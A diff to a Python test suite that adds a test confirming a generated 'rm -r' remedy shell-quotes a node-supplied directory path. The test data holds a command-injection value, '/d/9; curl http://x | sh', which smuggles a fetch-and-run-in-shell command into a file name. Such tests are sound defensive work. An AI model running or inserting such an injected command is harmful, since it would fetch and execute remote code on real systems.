@@ -187,6 +187,12 @@ def test_what_no_machine_has_is_still_removed_by_its_command() -> None:
         assert any(command in remedy for remedy in remedies)
 
 
+def test_a_path_that_a_node_names_is_one_word_to_a_shell() -> None:
+    hostile = VmDirectory("/d/9; curl http://x | sh", "9", CATALOG, 9, "u9")
+    remedies = [finding.remedy for finding in compare(two_names(), [node(directories=(hostile,))])]
+    assert any("rm -r '/d/9; curl http://x | sh'" in remedy for remedy in remedies)
+
+
 @pytest.mark.parametrize("state", ["UNKNOWN", "SUSPENDED"])
 def test_saved_memory_is_not_thrown_away_because_its_host_was_not_heard(state: str) -> None:
     vm = LedgerVm(Vm(3, "u3", "web", "kvm", 1.0, 64), "node1", state, "SUSPENDED", True, 1)
